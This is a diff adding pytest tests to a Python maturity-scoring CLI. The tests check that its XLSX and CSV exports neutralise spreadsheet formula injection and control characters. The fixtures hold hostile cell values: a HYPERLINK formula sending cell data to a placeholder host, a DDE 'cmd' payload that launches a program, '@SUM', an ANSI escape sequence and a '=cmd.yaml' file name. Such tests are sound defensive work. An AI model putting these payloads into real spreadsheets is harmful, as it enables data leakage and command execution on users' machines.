@@ -2,9 +2,22 @@
 
 from __future__ import annotations
 
-import pytest
+import csv
+import datetime as dt
+import io
+import zipfile
+from pathlib import Path
 
+import pytest
+import yaml
+from typer.testing import CliRunner
+
+from maturity.cli import app
+from maturity.errors import ExitCode
+from maturity.models.base import EnterpriseType
+from maturity.questionnaire import Questionnaire
 from maturity.text import has_control_chars, printable
+from tests.conftest import REPO, write_yaml
 
 
 @pytest.mark.parametrize(
@@ -27,3 +40,95 @@ def test_printable_makes_control_characters_visible(raw: str, shown: str) -> Non
 )
 def test_has_control_chars_counts_newline_and_tab_too(text: str, bad: bool) -> None:
     assert has_control_chars(text) is bad
+
+
+# --- spreadsheets: text stays text -------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://x/?"&A2,"x")'
+
+
+def invoke(*args: str) -> tuple[int, str, str]:
+    result = CliRunner().invoke(app, list(args))
+    return result.exit_code, result.stdout, result.stderr
+
+
+def sample(folder: Path, name: str, organisation: str, **fields: str) -> Path:
+    data = yaml.safe_load((REPO / "examples" / "cmmm-discrete-sample.yaml").read_text(encoding="utf-8"))
+    data["organisation"].update(name=organisation, **fields)
+    return write_yaml(folder / name, data)
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    folder = tmp_path / "in"
+    folder.mkdir()
+    sample(folder, "a.yaml", FORMULA, industry="+cmd|' /C calc'!A0", region="@SUM(1+1)")
+    sample(folder, "b.yaml", "ACME\x1b[2J Level 5", industry="-2+3")
+    sample(folder, "c.yaml", "#N/A", industry="\tTabbed")
+    (folder / "=cmd.yaml").write_text("answers: [\n", encoding="utf-8")  # fails: its name goes onto the failures sheet
+    return folder
+
+
+def test_xlsx_keeps_formula_like_text_as_text_and_escapes_control_characters(hostile: Path, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    out = tmp_path / "scores.xlsx"
+    code, _, _ = invoke("score", str(hostile), "-f", "xlsx", "-o", str(out), "--jobs", "1")
+    assert code == ExitCode.PARTIAL  # the one broken file; the ESC in a name no longer aborts the batch
+    book = load_workbook(out)
+    results, failures = book["Results"], book["Failures"]
+    cells = {row[1].value: row for row in results.iter_rows(min_row=2)}
+    assert set(cells) == {FORMULA, "ACME\\x1b[2J Level 5", "#N/A"}
+    for row in results.iter_rows(min_row=2):
+        for cell in row:
+            assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
+    assert [c.value for c in cells[FORMULA][2:4]] == ["+cmd|' /C calc'!A0", "@SUM(1+1)"]
+    assert cells[FORMULA][1].quotePrefix and not cells["#N/A"][1].quotePrefix
+    assert isinstance(cells[FORMULA][results[1].index(next(c for c in results[1] if c.value == "Total score"))].value, float)
+    failed = failures[2][0]
+    assert failed.value == str(hostile / "=cmd.yaml") and failed.data_type == "s"
+
+
+def test_xlsx_raw_xml_holds_no_formula(hostile: Path, tmp_path: Path) -> None:
+    out = tmp_path / "scores.xlsx"
+    code, _, _ = invoke("score", str(hostile / "a.yaml"), str(hostile / "c.yaml"), "-f", "xlsx", "-o", str(out))
+    assert code == ExitCode.OK
+    with zipfile.ZipFile(out) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert sheets and not any(b"<f>" in xml or b't="e"' in xml for xml in sheets)
+
+
+def test_csv_defuses_formula_starts_but_leaves_numbers_alone(hostile: Path, tmp_path: Path) -> None:
+    out = tmp_path / "scores.csv"
+    code, _, _ = invoke("score", str(hostile), "-f", "csv", "-o", str(out), "--jobs", "1")
+    assert code == ExitCode.PARTIAL
+    rows = {r["file"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
+    a, b, c = (rows[str(hostile / n)] for n in ("a.yaml", "b.yaml", "c.yaml"))
+    assert (a["organisation"], a["industry"], a["region"]) == ("'" + FORMULA, "'+cmd|' /C calc'!A0", "'@SUM(1+1)")
+    assert (b["organisation"], b["industry"]) == ("ACME\\x1b[2J Level 5", "'-2+3")
+    assert (c["organisation"], c["industry"]) == ("#N/A", "'\tTabbed")
+    assert float(a["score"]) > 0 and a["level"] == "2"  # numbers are written as they were
+
+
+def test_answer_workbook_text_starting_with_a_formula_sign_reads_back_as_it_was(cmmm: Questionnaire, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    from maturity.excel import blank_workbook, read_workbook
+    from maturity.excel.cells import set_value
+
+    wb = load_workbook(io.BytesIO(blank_workbook(cmmm, "en", EnterpriseType.discrete, dt.date(2026, 11, 20))))
+    profile, answers = wb["Profile"], wb["Answers"]
+    set_value(profile["B2"], FORMULA)  # as Excel stores what is typed into a text cell: a string, not a formula
+    set_value(answers["F2"], "full")
+    set_value(answers["H2"], "=1+1 is what we wrote")
+    path = tmp_path / "answers.xlsx"
+    wb.save(path)
+    doc = read_workbook(path.read_bytes(), "answers.xlsx")
+    item = next(iter(cmmm.item_ids(EnterpriseType.discrete)))
+    assert doc.data["organisation"]["name"] == FORMULA
+    assert doc.data["answers"][item] == {"rating": "full", "note": "=1+1 is what we wrote"}
+    out = tmp_path / "scores.xlsx"
+    code, _, _ = invoke("score", str(path), "-f", "xlsx", "-o", str(out))
+    assert code == ExitCode.OK
+    cell = load_workbook(out)["Results"]["B2"]
+    assert (cell.value, cell.data_type) == (FORMULA, "s")
